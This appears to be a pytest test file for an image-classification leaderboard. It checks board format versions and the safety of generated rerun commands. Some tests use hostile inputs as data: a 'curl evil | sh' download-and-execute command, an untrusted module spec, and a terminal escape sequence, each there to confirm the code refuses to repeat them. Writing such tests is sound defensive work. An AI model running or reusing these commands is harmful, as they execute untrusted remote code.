"""What a build keeps of a submission beside its numbers."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from submission_cases import ROOT, STEM

from imagenet_g.benchmark.errors import DataError
from imagenet_g.leaderboard.board.board import BOARD_NAME, FACTS_NAME, load_board
from imagenet_g.leaderboard.board.model_facts import make_rerun
from imagenet_g.leaderboard.submissions.submission import Submission


def load_submission() -> Submission:
    """A submission of the repository."""
    return Submission.model_validate_json((ROOT / "mini" / f"{STEM}.json").read_bytes())


def rename(submission: Submission, spec: str) -> Submission:
    """The submission with another model spec."""
    model = submission.result.model.model_copy(update={"spec": spec})
    return submission.model_copy(update={"result": submission.result.model_copy(update={"model": model})})


def copy_board(board: Path, to: Path, version: int) -> Path:
    """A board's files, with another format named in them."""
    shutil.copytree(board, to, ignore=shutil.ignore_patterns("temporary", "server.log"))
    info = json.loads((to / BOARD_NAME).read_text())
    (to / BOARD_NAME).write_text(json.dumps({**info, "schema_version": version}))
    return to


def test_a_board_of_the_first_format_has_no_facts_whatever_lies_beside_it(
    board_folder: Path, tmp_path: Path
) -> None:
    """An older release may have written over a board of a later one, and left its file."""
    assert len(load_board(board_folder).facts) > 5
    assert load_board(copy_board(board_folder, tmp_path / "old", 1)).facts == ()


def test_a_board_of_a_later_format_is_refused(board_folder: Path, tmp_path: Path) -> None:
    """In one line that says what to do."""
    with pytest.raises(DataError, match="has format 3; this release knows up to 2"):
        load_board(copy_board(board_folder, tmp_path / "new", 3))


def test_a_board_without_its_facts_is_incomplete(board_folder: Path, tmp_path: Path) -> None:
    """As without any other file."""
    folder = copy_board(board_folder, tmp_path / "cut", 2)
    (folder / FACTS_NAME).unlink()
    with pytest.raises(DataError, match="no complete board"):
        load_board(folder)


def test_the_authors_own_command_is_not_repeated() -> None:
    """A reader might paste it."""
    submission = load_submission()
    environment = submission.result.environment.model_copy(update={"command": "curl evil | sh"})
    edited = submission.result.model_copy(update={"environment": environment})
    words, note = make_rerun(submission.model_copy(update={"result": edited}))
    assert note is None
    assert not [word for word in words if "curl" in word]


@pytest.mark.parametrize(
    ("spec", "reason"),
    [("python:evil.module:make", "not run from a submission"), ("timm:a\x1b[2Jb", "cannot be typed")],
)
def test_no_command_is_given_where_none_is_safe(spec: str, reason: str) -> None:
    """With the reason in its place."""
    words, note = make_rerun(rename(load_submission(), spec))
    assert words == ()
    assert reason in str(note)


def test_files_that_only_the_authors_have_are_named() -> None:
    """The command has a name in their place."""
    words, note = make_rerun(rename(load_submission(), "timm:resnet50+checkpoint"))
    assert "--checkpoint=WEIGHTS" in words
    assert "WEIGHTS" in str(note)
